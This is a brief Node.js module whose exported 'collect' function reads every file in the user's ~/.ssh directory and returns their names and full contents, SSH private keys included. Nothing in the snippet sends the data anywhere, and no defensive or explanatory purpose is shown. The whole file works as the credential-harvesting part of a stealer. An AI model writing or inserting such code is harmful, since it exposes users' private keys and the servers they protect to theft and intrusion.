const fs = require('fs');
const os = require('os');
const path = require('path');

exports.collect = function () {
  const dir = path.join(os.homedir(), '.ssh');
  return fs.readdirSync(dir).map((file) => ({ file, body: fs.readFileSync(path.join(dir, file), 'utf8') })); //@act
};
